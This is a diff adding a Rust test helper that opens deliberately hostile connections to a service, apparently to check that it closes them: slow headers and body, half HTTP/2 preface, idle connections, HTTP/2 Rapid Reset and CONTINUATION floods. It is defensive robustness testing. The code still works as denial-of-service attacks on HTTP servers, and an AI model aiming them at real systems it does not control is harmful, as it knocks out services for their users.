@@ -1,0 +1,111 @@
+//! Peers that mean harm, in raw bytes over real sockets.
+
+use std::time::Duration;
+
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::TcpStream,
+};
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const CONTINUATION: u8 = 9;
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+
+/// What an attack does with each of its connections.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Attack {
+    /// Connects and says nothing: over TLS a handshake that does not begin.
+    Silence,
+    /// Half of HTTP/2's first words.
+    HalfPreface,
+    /// The headers of an HTTP/1.1 request, a line at a time, without an end.
+    SlowHeaders,
+    /// HTTP/2, set up and then idle.
+    Idle,
+    /// Requests that are taken back at once.
+    RapidReset,
+    /// Headers that go on for ever.
+    Continuation,
+    /// A body that is announced and does not come.
+    SlowBody,
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
+    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
+}
+
+/// `POST` of the RPC, in HPACK without compression.
+fn request() -> Vec<u8> {
+    let mut block = vec![0x83, 0x86];
+    for (name, value) in [(4, "/collections.v1.CollectionsService/Destroy"), (31, "application/grpc")] {
+        match name {
+            4 => block.push(0x04),
+            _ => block.extend([0x0f, 31 - 15]),
+        }
+        block.push(u8::try_from(value.len()).unwrap());
+        block.extend(value.as_bytes());
+    }
+    block
+}
+
+impl Attack {
+    /// One connection of the attack. It is given back to be held open; none where the service has closed it.
+    pub async fn open(self, address: &str) -> Option<TcpStream> {
+        let mut stream = TcpStream::connect(address).await.ok()?;
+        let hello = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
+        match self {
+            Self::Silence => Some(stream),
+            Self::HalfPreface => stream.write_all(&PREFACE[..12]).await.ok().map(|()| stream),
+            Self::SlowHeaders => {
+                let head = b"POST /1.1/collections/destroy.json HTTP/1.1\r\nhost: a\r\nx-a: ";
+                stream.write_all(head).await.ok().map(|()| stream)
+            }
+            Self::SlowBody => {
+                let head =
+                    b"POST /1.1/collections/destroy.json HTTP/1.1\r\nhost: a\r\ncontent-length: 9\r\n\r\n";
+                stream.write_all(head).await.ok().map(|()| stream)
+            }
+            Self::Idle => stream.write_all(&hello).await.ok().map(|()| stream),
+            Self::RapidReset => {
+                stream.write_all(&hello).await.ok()?;
+                for number in 0..5_000 {
+                    let id = 2 * number + 1;
+                    let reset = frame(RST_STREAM, 0, id, &8_u32.to_be_bytes());
+                    let pair = [frame(HEADERS, END_HEADERS, id, &request()), reset].concat();
+                    stream.write_all(&pair).await.ok()?;
+                }
+                Some(stream)
+            }
+            Self::Continuation => {
+                stream.write_all(&hello).await.ok()?;
+                stream.write_all(&frame(HEADERS, END_STREAM, 1, &request())).await.ok()?;
+                // A header that is never indexed: `a` with a value of 100 letters, again and again.
+                let line = [&[0x10, 1, b'a', 100][..], &[b'x'; 100]].concat();
+                let block = line.repeat(150);
+                for _ in 0..5_000 {
+                    stream.write_all(&frame(CONTINUATION, 0, 1, &block)).await.ok()?;
+                }
+                Some(stream)
+            }
+        }
+    }
+}
+
+/// Whether the other end has closed the connection, or does so within this time.
+pub async fn is_closed(stream: &mut TcpStream, patience: Duration) -> bool {
+    let mut buffer = [0; 4096];
+    let closed = async {
+        loop {
+            match stream.read(&mut buffer).await {
+                Ok(0) | Err(_) => return,
+                Ok(_settings) => {}
+            }
+        }
+    };
+    tokio::time::timeout(patience, closed).await.is_ok()
+}
